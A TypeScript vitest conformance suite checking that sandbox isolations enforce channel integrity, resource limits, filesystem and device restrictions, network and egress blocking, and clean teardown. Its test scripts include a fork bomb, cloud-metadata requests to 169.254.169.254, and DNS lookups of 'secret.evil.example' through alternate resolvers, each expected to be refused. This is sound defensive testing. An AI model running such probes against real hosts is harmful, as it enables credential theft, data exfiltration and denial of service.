import { createHash, randomBytes } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { networkInterfaces } from 'node:os';
import type { CacheTransfer } from '@slipway/core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import type { Isolation } from '../src/isolation/isolation.ts';
import { tellingFolders } from '../src/isolation/telling-folders.ts';
import { outputOf, SandboxBench, untilItWrites } from '../src/testing/sandbox-bench.ts';
import { buildTinyDevice } from '../src/testing/tiny-image.ts';

export interface ConformanceOptions {
  /** Opens the isolation; it keeps its files in `sandboxFolder`. */
  readonly open: (sandboxFolder: string) => Promise<Isolation>;
  /** What the shell inside prints the number of CPUs with that the sandbox may keep busy, as the kernel enforces it. */
  readonly cpuCount: string;
  /** Bytes sent each way through the channel. */
  readonly channelMiB?: number;
  /** Most that the channel may hold on its way while nobody reads. */
  readonly channelBufferMiB?: number;
  /** Memory of the sandbox in the out-of-memory test. */
  readonly smallMemoryMiB?: number;
  /** How cache entries come into a sandbox; what is a device is tested by its own tests. Archives when absent. */
  readonly cacheTransfer?: CacheTransfer;
  /**
   * gVisor keeps the memory of all processes in one of the host: at the limit they end together. And it refuses processes
   * itself, without counting.
   */
  readonly endsAsAWhole?: boolean;
  /** A process may make namespaces: they are those of its own kernel. */
  readonly makesNamespaces?: boolean;
  /** Longest time of one test. */
  readonly timeoutMilliseconds?: number;
}

/** Empty where the host has none. */
function hostMachineId(): string {
  return existsSync('/etc/machine-id') ? readFileSync('/etc/machine-id', 'utf8').trim() : '';
}

/** What every isolation promises. Called by the test file of each. */
export function describeIsolation(name: string, options: ConformanceOptions): void {
  const {
    open,
    cpuCount,
    channelMiB = 100,
    channelBufferMiB = 8,
    smallMemoryMiB = 256,
    cacheTransfer = 'archive',
    endsAsAWhole = false,
    makesNamespaces = false,
    timeoutMilliseconds = 60_000,
  } = options;

  describe(`a sandbox of isolation ${name}`, { timeout: timeoutMilliseconds }, () => {
    let bench: SandboxBench;
    beforeAll(async () => {
      bench = await SandboxBench.open(open);
    });
    afterEach(() => bench.clear());
    afterAll(() => bench.close());

    describe('channel', () => {
      test(`carries ${channelMiB} MiB each way without a changed byte`, async () => {
        const sandbox = await bench.start('cat <&3 >&3');
        await sandbox.started;
        const sent = createHash('sha256');
        const received = createHash('sha256');
        // The last byte ends a message, as each of the executor's ends: one that may have a continuation may be held.
        const pieces = [
          ...Array.from({ length: channelMiB }, () => () => randomBytes(1024 * 1024)),
          () => Buffer.from('\n'),
        ];
        const total = channelMiB * 1024 * 1024 + 1;
        const exchange = async () => {
          const back = new Promise<void>((resolve) => {
            let length = 0;
            sandbox.channel.on('data', (chunk: Buffer) => {
              received.update(chunk);
              length += chunk.length;
              if (length >= total) resolve();
            });
          });
          for (const make of pieces) {
            const bytes = make();
            sent.update(bytes);
            if (!sandbox.channel.write(bytes))
              await new Promise((resolve) => sandbox.channel.once('drain', resolve));
          }
          await back;
        };
        const ended = sandbox.exited.then((exit) => {
          throw new Error(`it ended meanwhile: ${JSON.stringify(exit)}`);
        });
        await Promise.race([exchange(), ended]);
        expect(received.digest('hex')).toBe(sent.digest('hex'));
      });

      test('stops the writer inside while nobody reads', async () => {
        const writesMore = `dd if=/dev/zero bs=1M count=${channelBufferMiB * 2} >&3 2>/dev/null`;
        const sandbox = await bench.start(`${writesMore} & sleep 3; kill -0 $! && exit 7; exit 0`);
        expect(await sandbox.exited).toMatchObject({ exitCode: 7 });
      });

      test('ends when the process ends', async () => {
        const sandbox = await bench.start('printf last >&3');
        expect(await outputOf(sandbox)).toBe('last');
      });
    });

    describe('end', () => {
      test.each([0, 1, 42])('with exit code %i is told as such', async (code) => {
        const sandbox = await bench.start(`exit ${code}`);
        expect(await sandbox.exited).toMatchObject({ exitCode: code, signal: null, cause: null });
      });

      test.each(['SIGINT', 'SIGTERM'] as const)(
        'by %s: the process gets it and may handle it',
        async (signal) => {
          const sandbox = await bench.start(
            `trap 'exit 7' ${signal.slice(3)}; echo ready >&3; while :; do sleep 60 & wait; done`,
          );
          await untilItWrites(sandbox, 'ready');
          sandbox.signal(signal);
          expect(await sandbox.exited).toMatchObject({ exitCode: 7, signal: null });
        },
      );

      test('by SIGKILL is told with its signal', async () => {
        const sandbox = await bench.start('echo ready >&3; sleep 60');
        await untilItWrites(sandbox, 'ready');
        sandbox.signal('SIGKILL');
        expect(await sandbox.exited).toMatchObject({ exitCode: null, signal: 'SIGKILL', cause: null });
      });

      test('of a program that is not there is told as an exit or a failed start, with its name', async () => {
        const sandbox = await bench.start('exec /bin/not-there');
        await sandbox.started.catch(() => {});
        expect(await sandbox.exited).toMatchObject({ exitCode: 127 });
      });
    });

    describe('limit', () => {
      test('of memory: a process that takes more is killed, and the end says why', async () => {
        const takesTwice = `dd if=/dev/zero of=/dev/null bs=${smallMemoryMiB * 2}M count=1`;
        const sandbox = await bench.start(`${takesTwice}; exit 9`, { size: { memoryMiB: smallMemoryMiB } });
        const exit = await sandbox.exited;
        expect(exit).toMatchObject({
          ...(endsAsAWhole ? { signal: 'SIGKILL' } : { exitCode: 9 }),
          cause: 'out-of-memory',
        });
        const killed = endsAsAWhole ? '[a-z]+' : 'dd';
        expect(exit.message).toMatch(
          new RegExp(`^The kernel killed the process "${killed}", which used \\d+ MiB, at the memory limit`),
        );
        expect(exit.message).toContain(`${smallMemoryMiB} MiB`);
      });

      test('of memory: what fits is not killed', async () => {
        const takesHalf = `dd if=/dev/zero of=/dev/null bs=${smallMemoryMiB / 2}M count=1`;
        const sandbox = await bench.start(takesHalf, { size: { memoryMiB: smallMemoryMiB } });
        expect(await sandbox.exited).toMatchObject({ exitCode: 0, cause: null });
      });

      test.skipIf(endsAsAWhole)(
        'of memory: a sandbox that lives on tells which process was killed, its peak and limit',
        async () => {
          const takesTwice = `dd if=/dev/zero of=/dev/null bs=${smallMemoryMiB * 2}M count=1`;
          const sandbox = await bench.start(`${takesTwice}; echo killed >&3; sleep 600`, {
            size: { memoryMiB: smallMemoryMiB },
          });
          await untilItWrites(sandbox, 'killed');
          const { memory } = await sandbox.shortages();
          expect(memory).toMatchObject({ kills: 1, outOf: 'container', process: { name: 'dd' } });
          const { peakMiB = 0, limitMiB = 0, process } = memory ?? {};
          // A kernel of its own takes a part.
          expect(limitMiB).toBeGreaterThan(smallMemoryMiB * 0.5);
          expect(limitMiB).toBeLessThanOrEqual(smallMemoryMiB);
          expect(peakMiB).toBeGreaterThan(limitMiB * 0.9);
          expect(peakMiB).toBeLessThanOrEqual(limitMiB);
          expect(process?.memoryMiB).toBeGreaterThan(limitMiB * 0.8);
        },
      );

      test('of CPUs: it has as many as it was given', async () => {
        // A number that is neither the usual one nor, likely, the host's.
        const sandbox = await bench.start(`(${cpuCount}) >&3`, { size: { cpus: 3 } });
        expect(await outputOf(sandbox)).toBe('3\n');
      });

      test('of processes: a fork bomb ends at the limit and leaves the rest alone', async () => {
        const sandbox = await bench.start(
          `sh -c 'i=0; while [ $i -lt 200 ]; do sleep 60 & i=$((i+1)); done' 2>/dev/null
           set -- /proc/[0-9]*; echo $# >&3`,
          { pidLimit: 64 },
        );
        const alive = Number(await outputOf(sandbox));
        expect(alive).toBeGreaterThan(32);
        // In a virtual machine the listing shows what belongs to the container alone, as it does elsewhere.
        expect(alive).toBeLessThanOrEqual(64);
      });

      test.skipIf(endsAsAWhole)(
        'of processes: what fails at it is told to have, with how often the kernel refused',
        async () => {
          const bomb = 'i=0; while [ $i -lt 200 ]; do sleep 60 & i=$((i+1)); done';
          const sandbox = await bench.start(
            `sh -c '${bomb}' 2>/dev/null; echo bombed >&3; read go <&3; exit 5`,
            { pidLimit: 32 },
          );
          await untilItWrites(sandbox, 'bombed');
          const { processRefusals, memory } = await sandbox.shortages();
          expect(processRefusals).toBeGreaterThan(0);
          expect(memory).toBeNull();
          sandbox.channel.write('go\n');
          expect(await sandbox.exited).toMatchObject({ exitCode: 5, cause: 'process-limit' });
        },
      );

      test('of the volume: a full one says so to the writer', async () => {
        const sandbox = await bench.start(
          'dd if=/dev/zero of=/tmp/fill bs=1M count=1100 2>/dev/shm/error; grep -c "No space left" /dev/shm/error >&3; df -m / | tail -1 >&3',
        );
        const [mentions, usage = ''] = (await outputOf(sandbox)).split('\n');
        expect(mentions).toBe('1');
        const sizeMiB = Number(usage.trim().split(/\s+/)[1]);
        expect(sizeMiB).toBeGreaterThan(850);
        expect(sizeMiB).toBeLessThanOrEqual(1024);
      });

      test('of the volume: a full one is told with its largest folders, and is why the sandbox fails', async () => {
        const sandbox = await bench.start(`
          mkdir -p /var/cache/pip /deployment/infra/node_modules/large
          dd if=/dev/zero of=/var/cache/pip/wheel bs=1M count=200 2>/dev/null
          dd if=/dev/zero of=/deployment/infra/node_modules/large/file bs=1M count=1100 2>/dev/null
          dd if=/dev/zero of=/deployment/infra/node_modules/large/rest 2>/dev/null
          echo full >&3; read go <&3; exit 6`);
        await untilItWrites(sandbox, 'full');
        const { volume } = await sandbox.shortages();
        expect(volume?.freeBytes).toBeLessThan(1024 * 1024);
        expect(volume?.freeFiles).toBeGreaterThan(0);
        const told = tellingFolders(volume?.folders ?? [], 'bytes');
        expect(told.map(({ path }) => path)).toEqual(['/deployment/infra/node_modules', '/var/cache/pip']);
        expect(told[1]?.bytes).toBeGreaterThan(199 * 1024 ** 2);
        expect(told[1]?.bytes).toBeLessThan(202 * 1024 ** 2);
        sandbox.channel.write('go\n');
        expect(await sandbox.exited).toMatchObject({
          exitCode: 6,
          cause: 'disk-full',
          message: expect.stringContaining('The volume of 1 GiB is full.'),
        });
      });

      test('of files on the volume: that all are made is told, with the folders that have most', async () => {
        // Processes that make many files each: in an emulated machine one for each takes minutes.
        const sandbox = await bench.start(`
          mkdir -p /root/.pulumi/many && cd /root/.pulumi/many
          seq 70000 | xargs touch 2>/dev/shm/error
          grep -q "No space left" /dev/shm/error && echo made >&3; read go <&3; exit 7`);
        await untilItWrites(sandbox, 'made');
        const { volume } = await sandbox.shortages();
        expect(volume).toMatchObject({ freeFiles: 0 });
        expect(volume?.freeBytes).toBeGreaterThan(100 * 1024 ** 2);
        const [most] = tellingFolders(volume?.folders ?? [], 'files');
        expect(most?.path).toBe('/root/.pulumi/many');
        expect(most?.files).toBeGreaterThan((volume?.totalFiles ?? 0) * 0.9);
        sandbox.channel.write('go\n');
        expect(await sandbox.exited).toMatchObject({ exitCode: 7, cause: 'inodes-exhausted' });
      });
    });

    describe('inside', () => {
      test('has exactly the environment and working directory that were asked for', async () => {
        const sandbox = await bench.start('cat /proc/$$/environ >&3; readlink /proc/$$/cwd >&3', {
          environment: { PATH: '/bin', HOME: '/root', GREETING: 'two words\nand a line' },
          workingDirectory: '/var/lib/program',
        });
        const output = await outputOf(sandbox);
        expect(output.split('\0').sort()).toEqual([
          '/var/lib/program\n',
          'GREETING=two words\nand a line',
          'HOME=/root',
          'PATH=/bin',
        ]);
      });

      test('has standard input, output, error and the channel open, and nothing else of the host', async () => {
        const sandbox = await bench.start('ls /proc/$$/fd >&3 & wait');
        expect((await outputOf(sandbox)).split('\n')).toEqual(['0', '1', '2', '3', '']);
      });

      test('runs in the root of the image, writable, with the toolbox read-only beside it', async () => {
        const sandbox = await bench.start(`
          echo changed > /etc/passwd && cat /etc/passwd >&3
          /slipway/bin/busybox echo tools >&3
          touch /slipway/x 2>/dev/null || echo read-only >&3`);
        expect(await outputOf(sandbox)).toBe('changed\ntools\nread-only\n');
      });

      test('can neither mount nor see devices of the host, change its kernel or make namespaces', async () => {
        const sandbox = await bench.start(`
          mount -t tmpfs none /tmp 2>/dev/null && echo mounted >&3
          ls /dev/vda /dev/loop0 /dev/sda /dev/kvm /dev/mem 2>/dev/null >&3
          echo 1 2>/dev/null > /proc/sys/kernel/panic && echo sysctl >&3
          ${makesNamespaces ? '' : 'unshare -U true 2>/dev/null && echo namespace >&3'}
          echo done >&3`);
        expect(await outputOf(sandbox)).toBe('done\n');
      });

      test('two at once have host names, machine ids and files of their own', async () => {
        const script = 'echo mine >> /tmp/file; hostname >&3; cat /etc/machine-id /tmp/file >&3';
        const [first, second] = await Promise.all([
          bench.start(script, { hostname: 'first' }),
          bench.start(script, { hostname: 'second' }),
        ]);
        const outputs = await Promise.all([outputOf(first), outputOf(second)]);
        expect(outputs[0]).toMatch(/^first\n[0-9a-f]{32}\nmine\n$/);
        expect(outputs[1]).toMatch(/^second\n[0-9a-f]{32}\nmine\n$/);
        const machineIds = [...outputs.map((output) => output.split('\n')[1]), hostMachineId()];
        expect(new Set(machineIds).size).toBe(3);
      });
    });

    describe('network', () => {
      test('reaches the control plane as http://slipway.internal', async () => {
        const sandbox = await bench.start('wget -q -O - http://slipway.internal/api/user >&3');
        expect(await outputOf(sandbox)).toBe('the control plane has /api/user');
      });

      test('reaches nothing else of the host, and no private or metadata address', async () => {
        const other = createServer((_request, response) => response.end('of the host'));
        await new Promise<void>((resolve) => other.listen(0, '0.0.0.0', resolve));
        const address = other.address();
        const port = typeof address === 'object' && address !== null ? address.port : 0;
        const addresses = Object.values(networkInterfaces())
          .flatMap((ofInterface) => ofInterface ?? [])
          .filter(({ family }) => family === 'IPv4')
          .map((entry) => entry.address);
        const tried = [
          ...addresses,
          '10.0.2.2',
          '169.254.169.254',
          '10.1.2.3',
          '172.17.0.1',
          '192.168.1.1',
          '100.100.100.200',
        ];
        // The first is the positive control: the same command does reach what may be reached.
        const urls = ['http://slipway.internal/', ...tried.map((host) => `http://${host}:${port}/`)];
        const sandbox = await bench.start(
          `for url in ${urls.join(' ')}; do timeout 5 wget -q -O - $url >/dev/null 2>&1 && echo $url >&3; done; true`,
        );
        const output = await outputOf(sandbox);
        other.close();
        expect(output).toBe('http://slipway.internal/\n');
      });
    });

    describe('egress', () => {
      test('is decided and counted outside of it, whatever it asks of whom', async () => {
        const script = `
          nslookup slipway.internal | grep -A1 'Name:.*slipway.internal' | grep -c Address >&3
          nslookup secret.evil.example | grep -q Address.*[.][0-9]*$ && echo answered >&3
          timeout 5 wget -q -O - http://169.254.169.254/ >/dev/null 2>&1 && echo 'reached a metadata service' >&3
          for resolver in 10.0.2.3 10.255.255.53 169.254.1.1; do
            timeout 3 nslookup secret.evil.example $resolver >/dev/null 2>&1 && echo "asked $resolver" >&3
          done
          for host in '[fec0::2]' '[fd00:ec2::254]' '[fe80::1]'; do
            timeout 3 wget -q -O - http://$host/ >/dev/null 2>&1 && echo "reached $host" >&3
          done
          true`;
        const sandbox = await bench.start(script, { egress: { mode: 'none' } });
        expect(await outputOf(sandbox)).toBe('1\n');
        const { contacted, refused } = await bench.egressOf(sandbox);
        expect(contacted).toEqual([]);
        expect(refused).toEqual(
          expect.arrayContaining([
            expect.objectContaining({ address: '169.254.169.254', port: 80, reason: 'metadata' }),
            expect.objectContaining({ hosts: ['secret.evil.example'], protocol: 'dns', reason: 'policy' }),
          ]),
        );
      });
    });

    test('gets a device while it runs, and can read and not write it', async () => {
      const path = buildTinyDevice(bench.folder, 'attached late');
      const sandbox = await bench.start(`
        echo ready >&3; read go <&3
        cat /slipway-devices/cache/content >&3
        touch /slipway-devices/cache/x 2>/dev/null || echo " read-only" >&3`);
      await untilItWrites(sandbox, 'ready');
      expect(sandbox.cacheDevice === null ? 'archive' : 'device').toBe(cacheTransfer);
      await sandbox.attach({ name: 'cache', path });
      sandbox.channel.write('go\n');
      expect(await outputOf(sandbox)).toBe('attached late read-only\n');
    });

    describe('destroy', () => {
      test('ends a running sandbox within a second, also when asked twice, and leaves nothing behind', async () => {
        const before = bench.traces();
        const sandbox = await bench.start(
          'dd if=/dev/urandom of=/tmp/file bs=1M count=20; echo ready >&3; sleep 600',
        );
        await untilItWrites(sandbox, 'ready');
        await sandbox.attach({ name: 'cache', path: buildTinyDevice(bench.folder, 'attached') });
        expect(bench.traces().length).toBeGreaterThan(before.length);

        const [proof, again] = await Promise.all([sandbox.destroy(), sandbox.destroy()]);
        expect(proof).toMatchObject({ processesReaped: true, nothingLeft: true });
        expect(proof.milliseconds).toBeLessThanOrEqual(1000);
        expect(again).toEqual(proof);
        expect(await sandbox.destroy()).toEqual(proof);
        await sandbox.exited;
        await bench.clear();
        expect(bench.traces()).toEqual(before);
      });

      test('before it has started leaves nothing behind either', async () => {
        const before = bench.traces();
        const sandbox = await bench.start('sleep 600');
        sandbox.started.catch(() => {});
        await sandbox.destroy();
        await sandbox.exited;
        await bench.clear();
        expect(bench.traces()).toEqual(before);
      });

      test('after it ended by itself leaves nothing behind either', async () => {
        const before = bench.traces();
        const sandbox = await bench.start('exit 3');
        await sandbox.exited;
        await sandbox.destroy();
        await bench.clear();
        expect(bench.traces()).toEqual(before);
      });
    });
  });
}
